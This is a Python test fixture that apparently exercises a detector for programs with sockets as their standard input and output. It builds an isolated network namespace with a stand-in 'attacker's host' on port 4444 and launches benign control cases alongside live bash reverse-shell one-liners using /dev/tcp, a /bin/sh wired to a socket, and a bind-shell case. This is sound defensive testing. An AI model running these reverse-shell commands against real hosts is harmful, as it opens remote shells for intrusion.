"""Programs with a socket among their standard descriptors, and others with none: `stdio.py`.

Makes a host of its own for them to talk to: a network namespace behind a wire, which ends with this process. Each
program has a marker among its arguments, by which the test finds it.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import pty
import shutil
import socket
import subprocess
import sys
import threading

CLONE_NEWNET = 0x40000000
HOST4, HOST6, PORT = "203.0.113.7", "2001:db8::7", 4444
COMMANDS = b"/bin/true typed-by-the-attacker\nexit\n"
libc = ctypes.CDLL(None, use_errno=True)


def ip(*words):
    subprocess.run(["ip", *words], check=True)


def new_network():
    if libc.unshare(CLONE_NEWNET):
        raise OSError(ctypes.get_errno(), "unshare")
    ip("link", "set", "lo", "up")


def configure(device, *addresses):
    for address in addresses:
        ip("address", "add", address, "dev", device, *(["nodad"] if ":" in address else []))
    ip("link", "set", device, "up")


def serve(listener):
    """Whoever connects is told what to run, as by an attacker at a keyboard."""
    while True:
        connection, _ = listener.accept()
        kept.append(connection)
        with contextlib.suppress(OSError):  # it has gone
            connection.sendall(COMMANDS)


def attackers_host(ready, go):
    libc.prctl(1, 9)  # PR_SET_PDEATHSIG
    new_network()
    os.write(ready, b"1")
    os.read(go, 1)
    configure("far", f"{HOST4}/24", f"{HOST6}/64")
    listener = socket.create_server(("::", PORT), family=socket.AF_INET6, dualstack_ipv6=True)
    os.write(ready, b"2")
    serve(listener)


def build_network():
    new_network()
    ready_read, ready = os.pipe()
    go, go_write = os.pipe()
    pid = os.fork()
    if pid == 0:
        attackers_host(ready, go)
    os.read(ready_read, 1)
    ip("link", "add", "near", "type", "veth", "peer", "name", "far", "netns", str(pid))
    configure("near", "203.0.113.1/24", "2001:db8::1/64")
    os.write(go_write, b"1")
    os.read(ready_read, 1)


def run(marker, *files, program="/bin/true"):
    """`program marker` with these (sockets or descriptors) as descriptor 0, 1 and 2; None leaves one as it is."""
    pid = os.fork()
    if pid == 0:
        for number, file in enumerate(files):
            if file is not None:
                os.dup2(file if isinstance(file, int) else file.fileno(), number)
        os.execv(program, [program, marker])
    os.waitpid(pid, 0)


def connected(family, address):
    made = socket.socket(family, socket.SOCK_STREAM)
    made.connect(address)
    return made


def shell(*words, **options):
    subprocess.run(
        ["bash", "--norc", *words], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **options
    )


def closed_on_exec(descriptor):
    pid = os.fork()
    if pid == 0:
        os.dup2(descriptor, 0)
        fcntl.fcntl(0, fcntl.F_SETFD, fcntl.FD_CLOEXEC)
        os.execv("/bin/true", ["true", "closed-on-exec"])
    os.waitpid(pid, 0)


kept = []
said = {}
build_network()
local = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=serve, args=(local,), daemon=True).start()
local_port = said["local-port"] = local.getsockname()[1]
null = os.open("/dev/null", os.O_RDWR)
remote = connected(socket.AF_INET, (HOST4, PORT))
loopback = connected(socket.AF_INET, ("127.0.0.1", local_port))

shell("-c", f"bash --norc -i reverse-shell >& /dev/tcp/{HOST4}/{PORT} 0>&1")
shell("-c", f"bash --norc -i >& /dev/tcp/{HOST4}/{PORT} 0>&1")
shell("-c", f"/bin/true ipv6 <>/dev/tcp/{HOST6}/{PORT}")
shell("-c", f"/bin/true stderr-only 2>/dev/tcp/{HOST4}/{PORT}")
shell("-c", f"/bin/true udp >/dev/udp/{HOST4}/53")
shell("-c", f"/bin/true loopback </dev/tcp/127.0.0.1/{local_port}")
child = connected(socket.AF_INET, (HOST4, PORT))
run("-s", child, child, child, program="/bin/sh")
run("mapped", None, connected(socket.AF_INET6, (f"::ffff:{HOST4}", PORT)))
run("behind-loopback", loopback, remote)
run("behind-unconnected", socket.socket(), null, remote)
run("unconnected", socket.socket())
run("unconnected-ipv6", None, None, socket.socket(socket.AF_INET6))
server = socket.create_server(("127.0.0.1", 0))
client = connected(socket.AF_INET, server.getsockname())
said["client-port"] = client.getsockname()[1]
run("bind-shell", server.accept()[0])

closed_on_exec(remote.fileno())
remote.set_inheritable(True)
run("elsewhere", null, null, null)
subprocess.run(["/bin/true", "pipes"], input=b"x", capture_output=True)
pair = socket.socketpair()
run("socketpair", pair[0], pair[1], pair[0])
master, slave = pty.openpty()
run("terminal", slave, slave, slave)
if node := shutil.which("node"):
    subprocess.run([node, "-e", "require('child_process').spawnSync('/bin/true', ['node'], {stdio: 'pipe'})"])
    said["node"] = True
json.dump(said, sys.stdout)
